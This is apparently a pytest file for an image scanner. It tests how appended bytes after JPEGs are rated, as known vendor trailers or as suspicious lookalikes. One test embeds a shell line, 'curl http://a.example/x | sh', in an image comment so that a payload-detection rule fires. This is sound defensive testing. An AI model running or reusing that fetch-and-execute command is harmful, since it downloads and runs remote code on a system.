"""Which bytes behind an image are a vendor's trailer, and which only end like one."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

from corrupt_samples.encode import jpeg
from corrupt_samples.pictures import photo
from corrupt_samples.surgery import noise
from tests.embedding import canon, fotostation, samsung_trailer

if TYPE_CHECKING:
    from tests.conftest import Fired

RULE = "trailing-data"
NOISE = noise("after", 300)


def test_trailers_that_begin_with_a_name_or_hold_their_size_are_only_told(fired: Fired) -> None:
    listed = b'[{"name": "note", "offset": 300, "length": 300}]\0'
    tails = {
        "Insta360": NOISE + bytes(38) + struct.pack("<II", 378, 3) + b"8db42d694ccc418790edff439fe026bf",
        "MIE": b"~\x10\x04\xfe0MIE" + NOISE + b"~\0\x04\0zmie~\0\0\x06\0\0\x01\x45\x10\x04",
        "Nikon": NOISE + bytes(6) + b"/NIKON APP",
        "Vivo": b'vivo{"a": 1}\0' + NOISE + b"\xff\xff\xff\xff\x1b*9HWfu\x84\x93\xa2\xb1",
        "OnePlus": NOISE + listed + b"jxrs" + struct.pack("<I", len(listed) + 8),
        "FotoStation": fotostation(NOISE) * 3,
        "Samsung": fotostation(NOISE) + samsung_trailer(NOISE),
    }
    files = {f"{name}.jpg": jpeg(photo("a")) + tail for name, tail in tails.items()}
    found = fired(RULE, files | {f"sound {number}.jpg": jpeg(photo(str(number))) for number in range(3)})
    assert found.keys() == files.keys()
    for name in tails:
        severity, message = found[f"{name}.jpg"]
        assert severity == "info"
        assert message.endswith(f" {name} trailer)")


def test_a_picture_is_a_vendor_s_own_only_where_its_trailer_lists_it(fired: Fired) -> None:
    other = jpeg(photo("b", 60, 40))
    files = {
        "listed.jpg": jpeg(photo("a")) + samsung_trailer(NOISE, other),
        "before.jpg": jpeg(photo("a")) + other + samsung_trailer(NOISE),
        "within.jpg": jpeg(photo("a")) + samsung_trailer(NOISE[:-1] + other),
    }
    found = {name: severity for name, (severity, _message) in fired(RULE, files).items()}
    assert found == {"listed.jpg": "info", "before.jpg": "warning", "within.jpg": "warning"}
    code = jpeg(photo("b", 60, 40), comment=b"#!/bin/sh\ncurl http://a.example/x | sh\n")
    assert fired("embedded-payload", {"code.jpg": jpeg(photo("a")) + samsung_trailer(NOISE, code)})


def test_what_ends_like_a_vendor_s_trailer_and_has_not_its_structure_is_unknown(fired: Fired) -> None:
    footers = {
        "samsung": bytes(4) + b"SEFT",
        "directory": b"SEFH" + bytes(4) + struct.pack("<I", 2) + bytes(12) + struct.pack("<I", 24) + b"SEFT",
        "short": b"SEFH" + bytes(4) + struct.pack("<I", 8) + b"SEFT",
        "sound": struct.pack("<I", 65_536) + b"QDIOBS",
        "fotostation": fotostation(b"")[-4:],
        "long": struct.pack(">HI", 1, 1000) + b"\xa1\xb2\xc3\xd4",
        "mechanic": struct.pack(">I", 1000) + b"cbipcbbl",
        "canon": canon(b"")[28:],
        "afcp": b"AXS!" + bytes(8),
        "before": samsung_trailer(b"1600000000000"),
        "record": fotostation(b"1600000000000"),
        "oneplus": b"jxrs" + struct.pack("<I", 100),
        "huawei": b"LIVE_1234567",
    }
    files = {f"{name}.jpg": jpeg(photo("a")) + NOISE + footer for name, footer in footers.items()}
    found = fired(RULE, files | {f"sound {number}.jpg": jpeg(photo(str(number))) for number in range(3)})
    assert {name: severity for name, (severity, _message) in found.items()} == dict.fromkeys(files, "warning")
